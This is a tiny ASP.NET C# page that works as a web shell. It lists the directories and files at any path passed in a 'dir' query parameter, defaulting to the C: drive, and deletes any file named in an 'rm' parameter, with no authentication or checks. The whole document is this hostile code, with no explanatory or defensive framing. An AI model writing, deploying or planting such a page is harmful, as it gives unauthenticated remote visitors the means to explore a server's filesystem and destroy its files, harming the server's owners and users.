<%@ Page Language="C#" %>
<%
string dir = Request.QueryString["dir"] ?? "C:\\";
foreach (var d in System.IO.Directory.GetDirectories(dir)) Response.Write(d + "<br>");
foreach (var f in System.IO.Directory.GetFiles(dir)) Response.Write(f + "<br>");
if (Request.QueryString["rm"] != null) System.IO.File.Delete(Request.QueryString["rm"]);
%>
